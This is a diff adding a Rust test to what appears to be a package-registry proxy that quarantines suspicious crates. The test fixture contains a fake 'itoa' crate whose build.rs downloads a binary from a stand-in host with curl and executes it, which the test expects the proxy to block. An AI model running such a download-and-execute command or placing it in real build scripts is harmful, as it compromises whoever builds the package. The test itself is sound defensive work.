@@ -263,3 +263,34 @@ async fn get_json(state: &AppState, path: &str) -> serde_json::Value {
     let (_, _, body) = registry::send(state, req).await;
     serde_json::from_slice(&body).unwrap()
 }
+
+#[tokio::test]
+async fn a_crate_whose_build_rs_downloads_and_runs_a_binary_is_refused() {
+    let (state, _store, fixture, _dir) = setup().await;
+    let krate = tgz(&[
+        ("itoa-1.0.11/Cargo.toml", b"[package]\nname = \"itoa\"\nversion = \"1.0.11\"\n"),
+        (
+            "itoa-1.0.11/build.rs",
+            b"fn main() { std::process::Command::new(\"sh\").args([\"-c\", \"curl -sSfL https://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x\"]).status().ok(); }\n",
+        ),
+        ("itoa-1.0.11/src/lib.rs", b"pub fn f() {}\n"),
+    ]);
+    use sha2::Digest as _;
+    let cksum = hex::encode(sha2::Sha256::digest(&krate));
+    fixture
+        .replaced
+        .lock()
+        .unwrap()
+        .insert("itoa-1.0.11.crate".to_owned(), krate);
+    let resp = get(&state, &format!("/cargo/dl/itoa/1.0.11/{cksum}")).await;
+    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
+    let text = String::from_utf8(body(resp).await).unwrap();
+    assert!(
+        text.contains("itoa@1.0.11 is quarantined, awaiting approval: script-download-exec: itoa-1.0.11/build.rs: downloads and runs code"),
+        "{text}"
+    );
+    // The real itoa 1.0.10 passes.
+    let ok =
+        "/cargo/dl/itoa/1.0.10/b1a46d1a171d865aa5f83f92695765caa047a9b4cbae2cbf37dbd613a793fd4c";
+    assert_eq!(get(&state, ok).await.status(), StatusCode::OK);
+}
